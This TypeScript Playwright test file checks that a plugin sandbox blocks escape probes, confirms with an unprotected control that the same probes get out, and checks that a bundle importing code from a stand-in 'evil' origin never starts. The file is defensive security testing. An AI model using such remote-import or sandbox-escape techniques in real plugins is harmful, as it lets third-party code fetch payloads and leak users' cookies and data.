import { expect, test, type Page } from '@playwright/test';
import { bundle } from './lab/bundle.ts';
import { openLab, type Lab } from './lab/lab.ts';
import { watchPage } from './lab/watch-page.ts';
import type { Probe } from './plugins/probe.ts';
import { PROBES } from './plugins/probes.ts';

// Every way out is tried from inside a sandboxed plugin and must be closed; the same probes, in a place nothing protects,
// must all get out. A listener that is deaf fails the control, not the protection.
let lab: Lab;
let seen: () => string[];

test.beforeAll(async () => {
  lab = await openLab();
});
test.afterAll(() => lab.close());
test.beforeEach(async ({ page, context }) => {
  // The person has already said yes to everything that a browser asks.
  await context.grantPermissions(['clipboard-read', 'geolocation']);
  await context.setGeolocation({ latitude: 38.7, longitude: -9.1 });
  const watched = await watchPage(page);
  seen = watched.take;
});

interface Attempt {
  readonly answer: string;
  readonly hits: string[];
  readonly cookies: string[];
  readonly seen: string[];
}

function escaped({ answer, hits, cookies, seen }: Attempt): boolean {
  return hits.length > 0 || cookies.length > 0 || seen.length > 0 || answer.startsWith('GOT');
}

function proved(probe: Probe, { answer, hits, cookies, seen }: Attempt): boolean {
  const proofs = {
    hit: hits.length > 0,
    cookie: cookies.length > 0,
    seen: seen.length > 0,
    got: answer.startsWith('GOT'),
  };
  return proofs[probe.proof];
}

async function attempt(run: (targets: object) => Promise<string>): Promise<Attempt> {
  seen();
  lab.evil.takeHits();
  lab.site.takeSecretReads();
  const targets = { evil: lab.evil.origin, host: lab.site.url, udpPort: lab.evil.udpPort };
  const answer = await run(targets).catch((error: unknown) => `threw ${String(error)}`);
  await new Promise((resolve) => setTimeout(resolve, 100));
  return { answer, hits: lab.evil.takeHits(), cookies: lab.site.takeSecretReads(), seen: seen() };
}

for (const sandboxUrl of ['/sandbox/v1.html', '/sandbox/unguarded.html']) {
  test(`no probe gets out of a plugin under ${sandboxUrl}`, async ({ page }) => {
    test.setTimeout(90_000);
    const code = await bundle('plugins/prober.ts');
    lab.gateway.install({ key: 'probe', kind: 'COMMAND', handler: 'probe', detail: { id: 'probe' }, code });
    await page.goto(lab.site.url);
    await page.evaluate((options) => harness.start(options), { gateway: lab.gateway.url, sandboxUrl });

    const escapes: string[] = [];
    for (const name of Object.keys(PROBES)) {
      const result = await attempt((targets) =>
        page.evaluate((args) => harness.host.execute('ins_1/probe', args).then(String), { name, ...targets }),
      );
      if (escaped(result)) escapes.push(`${name}: ${JSON.stringify(result)}`);
      else expect(result.answer, name).toMatch(/^(blocked|undefined|null|\[object|true|false)/);
    }
    expect(escapes).toEqual([]);
    expect(page.url()).toBe(`${lab.site.url}/`);
  });
}

test('the control: where nothing protects, every probe gets out', async ({ page }) => {
  test.setTimeout(90_000);
  const code = await bundle('plugins/control-probes.ts');
  const silent: string[] = [];
  for (const [name, probe] of Object.entries(PROBES)) {
    await page.goto(`${lab.site.url}/open`);
    const result = await attempt((targets) =>
      probe.realm === 'worker'
        ? inBareWorker(page, code, name, targets)
        : inOpenFrame(page, code, name, targets),
    );
    if (!proved(probe, result)) silent.push(`${name}: ${JSON.stringify(result)}`);
  }
  expect(silent).toEqual([]);
});

test('a bundle that imports from elsewhere never starts', async ({ page }) => {
  const code = `import '${lab.evil.origin}/static-import.js';\n${await bundle('plugins/prober.ts')}`;
  lab.gateway.install({ key: 'probe', kind: 'COMMAND', handler: 'probe', detail: { id: 'probe' }, code });
  await page.goto(lab.site.url);
  await page.evaluate((gateway) => harness.start({ gateway, limits: { bootMs: 800 } }), lab.gateway.url);
  const result = await attempt(() =>
    page.evaluate(() => harness.host.execute('ins_1/probe', { name: 'fetch' }).then(String, String)),
  );
  expect(result.hits).toEqual([]);
  expect(result.answer).toContain('did not start');
});

function inBareWorker(page: Page, code: string, name: string, targets: object): Promise<string> {
  return page.evaluate(
    async ([code, name, targets]) => {
      const script = `${code}\nonmessage = ({ data }) => runProbe(...data).then(postMessage);`;
      const worker = new Worker(URL.createObjectURL(new Blob([script], { type: 'text/javascript' })));
      worker.postMessage([name, targets]);
      return new Promise<string>((resolve) => {
        worker.onmessage = ({ data }) => {
          resolve(String(data));
        };
      });
    },
    [code, name, targets] as const,
  );
}

function inOpenFrame(page: Page, code: string, name: string, targets: object): Promise<string> {
  return page.evaluate(
    async ([code, name, targets]) => {
      const frame = document.createElement('iframe');
      // The tag is not written out: this file is text in a page as well.
      frame.srcdoc = ['<script>', code, '</', 'script>'].join('');
      document.body.append(frame);
      await new Promise((resolve) => {
        frame.onload = resolve;
      });
      const run: unknown = Reflect.get(frame.contentWindow ?? {}, 'runProbe');
      if (typeof run !== 'function') throw new TypeError('The control did not load.');
      const late = new Promise<string>((resolve) => setTimeout(resolve, 1_500, 'left'));
      const answer: unknown = Reflect.apply(run, null, [name, targets]);
      return Promise.race([answer, late]).then(String);
    },
    [code, name, targets] as const,
  );
}
